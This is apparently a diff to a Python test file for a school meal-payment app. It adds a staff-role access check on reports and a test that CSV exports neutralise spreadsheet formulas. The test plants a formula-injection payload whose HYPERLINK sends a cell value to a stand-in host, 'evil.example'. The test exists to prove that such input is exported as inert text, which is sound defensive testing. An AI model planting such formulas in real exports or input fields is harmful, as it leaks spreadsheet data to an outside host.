@@ -16,6 +16,7 @@ from cardpay.accounts import school_account
 from cardpay.ledger import balance_of
 from cardpay.models import AccountKind
 from parent_portal.app import create_app
+from school.models import Classroom
 from school.settings import Settings
 from tests import factories
 from tests.conftest import FakeClock
@@ -63,6 +64,12 @@ def test_meal_totals_match_the_ledger_and_the_csv(
     client: TestClient, served: SmallSchool, session: Session
 ) -> None:
     signed_in(client, "cashier@example.org")
+    # By tariff band: for office and admins; a cashier has the day's takings.
+    assert client.get("/staff/reports/meals?first=2026-11-01&last=2026-11-30").status_code \
+        == 403
+    assert client.get("/staff/reports/day?day=2026-11-23").status_code == 200
+    client.cookies.clear()
+    signed_in(client, "office@example.org")
     page = client.get("/staff/reports/meals?first=2026-11-01&last=2026-11-30")
     revenue = balance_of(session, school_account(session=session,
                                                  school_id=served.school.id or 0,
@@ -133,3 +140,31 @@ def test_dates_in_reports_are_the_schools(session: Session, small_school: SmallS
     rows = list(csv.DictReader(io.StringIO(client.get(
         "/staff/reports/meals?first=2026-11-23&last=2026-11-24&format=csv").text)))
     assert [r["date"] for r in rows] == [date(2026, 11, 24).isoformat()]
+
+
+def test_csv_exports_carry_no_spreadsheet_formulas(
+    session: Session, served: SmallSchool, client: TestClient, clock: FakeClock
+) -> None:
+    """The review's two cells: a correction reason in the statement, a class name in the
+    meals report. Both come out as text; amounts, negative ones included, stay numbers."""
+    from cardpay import office
+    from school.staff import Actor
+
+    lea = served.pupils[0]
+    formula = '=HYPERLINK("http://evil.example/?leak="&A2,"voir")'
+    office.correct(session=session, pupil=lea, amount_cents=-350, reason=formula,
+                   client_id="csv-formula", actor=Actor(user_id=served.office.id or 0), clock=clock)
+    room = session.get(Classroom, lea.classroom_id)
+    assert room is not None
+    room.name = "=1+1 Class"
+    session.add(room)
+    session.commit()
+    signed_in(client, "office@example.org")
+    statement = list(csv.reader(io.StringIO(client.get(
+        f"/staff/pupils/{lea.id}/statement?first=2026-11-16&last=2026-11-24&format=csv").text)))
+    corrected = [r for r in statement if "HYPERLINK" in r[3]]
+    assert [(r[3], r[4]) for r in corrected] == [("'" + formula, "-3.50")]
+    meals = list(csv.DictReader(io.StringIO(client.get(
+        "/staff/reports/meals?first=2026-11-01&last=2026-11-30&format=csv").text)))
+    assert "'=1+1 Class" in {r["class"] for r in meals}
+    assert not [cell for r in meals for cell in r.values() if cell.startswith("=")]
